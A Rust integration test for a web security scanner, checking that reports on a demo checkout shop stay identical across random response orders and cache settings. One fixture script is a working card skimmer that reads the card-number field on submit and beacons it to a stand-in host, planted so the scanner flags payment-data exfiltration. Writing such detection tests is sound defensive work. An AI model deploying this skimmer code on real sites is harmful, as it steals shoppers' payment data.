//! The pipeline's stages overlap (a page's scripts load as soon as the page is parsed), so
//! answers arrive in any order. The report must not care: the same shop answered in a
//! different random order gives the same report, and every script is still loaded once.

mod common;
use common::{Route, html, js, serve, with_headers};
use std::time::Duration;

const PAGES: usize = 8;

fn page(i: usize) -> String {
    let evil = if i == 5 {
        "<script src=\"/s/tracker.js\"></script>"
    } else {
        ""
    };
    let pinned = if i == 2 {
        "<script src=\"/s/pinned.js\" integrity=\"sha384-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\" crossorigin=\"anonymous\"></script>"
    } else {
        ""
    };
    format!(
        "<!doctype html><html><head><title>Checkout {i}</title>\
         <script src=\"/s/common.js\"></script><script src=\"/s/page-{i}.js\"></script>{pinned}{evil}\
         </head><body><form action=\"/order\" method=\"post\">\
         <input name=\"cc_number\" autocomplete=\"cc-number\"><input name=\"cvv\" autocomplete=\"cc-csc\">\
         <button>Pay</button></form></body></html>"
    )
}

fn routes() -> Vec<(String, Route)> {
    let mut r = vec![
        (
            "/s/common.js".to_string(),
            js("window.shop = { cart: [], currency: 'EUR' };"),
        ),
        ("/s/pinned.js".to_string(), js("console.log('pinned');")),
        (
            "/s/tracker.js".to_string(),
            js(
                "document.querySelector('form').addEventListener('submit', function () {\n\
                  var c = document.querySelector('[name=cc_number]').value;\n\
                  navigator.sendBeacon('https://stats-collector.example/c', c);\n\
                });",
            ),
        ),
    ];
    for i in 0..PAGES {
        r.push((format!("/p/{i}.html"), html(&page(i))));
        r.push((
            format!("/s/page-{i}.js"),
            js(&format!("var page{i} = {{ step: {i} }};")),
        ));
    }
    r
}

/// Every route answers after its own random delay: pages and scripts arrive out of order.
fn shuffle(server: &common::Server, seed: u64) {
    let mut rng = fastrand::Rng::with_seed(seed);
    for (path, route) in routes() {
        let delay = Duration::from_millis(rng.u64(0..60));
        server.set(&path, Route::Delayed(delay, Box::new(route)));
    }
}

/// The report without what legitimately differs between runs (the clock).
fn stable(mut r: serde_json::Value) -> serde_json::Value {
    for k in ["started_at", "finished_at"] {
        r.as_object_mut().unwrap().remove(k);
    }
    r
}

/// The demo shop on a loopback server, and the URLs of its pages.
fn shop() -> (common::Server, Vec<String>) {
    let routes_list = routes();
    let server = serve(
        routes_list
            .iter()
            .map(|(p, r)| (p.as_str(), with_headers(r.clone(), &[])))
            .collect(),
    );
    let urls: Vec<String> = (0..PAGES)
        .map(|i| server.url("shop.example", &format!("/p/{i}.html")))
        .collect();
    (server, urls)
}

/// Scan the shop three times, each with the answers in another random order, and return the
/// reports. `cache`: the cache arguments of each run (`--no-cache`, or a `--cache-dir`).
fn three_orders(
    server: &common::Server,
    urls: &[String],
    cache: &dyn Fn(u64) -> Vec<String>,
) -> Vec<serde_json::Value> {
    let resolve = server.resolve("shop.example");
    let mut reports = Vec::new();
    for seed in [1u64, 2, 3] {
        shuffle(server, seed);
        let before: Vec<usize> = ["/s/common.js", "/s/page-3.js", "/s/tracker.js"]
            .iter()
            .map(|p| server.hits(p))
            .collect();
        let cache_args = cache(seed);
        let mut args: Vec<&str> = cache_args.iter().map(String::as_str).collect();
        args.extend(["--depth", "0", "--concurrency", "6", "--resolve", &resolve]);
        args.extend(urls.iter().map(String::as_str));
        let (code, report, stderr) = common::scan_json(&args);
        assert_eq!(code, 1, "the tracker must fail the scan: {stderr}");
        // Each script once per scan, though pages prefetch them while the crawl goes on.
        for (p, b) in ["/s/common.js", "/s/page-3.js", "/s/tracker.js"]
            .iter()
            .zip(before)
        {
            assert_eq!(server.hits(p) - b, 1, "{p} loaded more than once");
        }
        reports.push(stable(report));
    }
    let first = &reports[0];
    assert_eq!(first["pages"].as_array().unwrap().len(), PAGES);
    let rules = common::rules_of(first);
    assert!(
        rules.iter().any(|r| r == "payment-data-exfiltration"),
        "{rules:?}"
    );
    assert!(rules.iter().any(|r| r == "integrity-mismatch"), "{rules:?}");
    for (n, r) in reports.iter().enumerate().skip(1) {
        assert!(r == first, "run {n} differs from run 0");
    }
    reports
}

#[test]
fn the_report_does_not_depend_on_the_order_answers_arrive_in() {
    let (server, urls) = shop();
    three_orders(&server, &urls, &|_| vec!["--no-cache".to_string()]);
}

/// With the cache on, scripts are analysed while the crawl goes on (scan/early.rs): a cold
/// scan in any order, and a warm rescan that recalls every analysis, report the same as a scan
/// that shares nothing.
#[test]
fn early_analyses_and_a_warm_cache_give_the_same_report_in_any_order() {
    let (server, urls) = shop();
    let dir = tempfile::tempdir().unwrap();
    let base = dir.path().to_path_buf();
    let none = three_orders(&server, &urls, &|_| vec!["--no-cache".to_string()]);
    // A fresh directory per run: every run is cold, its analyses racing the crawl.
    let cold = three_orders(&server, &urls, &|seed| {
        vec![
            "--cache-dir".to_string(),
            base.join(format!("cold-{seed}")).display().to_string(),
        ]
    });
    assert!(
        cold[0] == none[0],
        "a cold cached scan differs from --no-cache"
    );
    // The same directory every run: the first fills it, the next two recall from it.
    let shared = base.join("shared");
    let warm = three_orders(&server, &urls, &|_| {
        vec!["--cache-dir".to_string(), shared.display().to_string()]
    });
    assert!(warm[0] == none[0], "a cached scan differs from --no-cache");
    let filled = std::fs::read_dir(&shared)
        .map(|d| d.count())
        .unwrap_or_default();
    assert!(filled > 0, "the shared cache directory stayed empty");
}
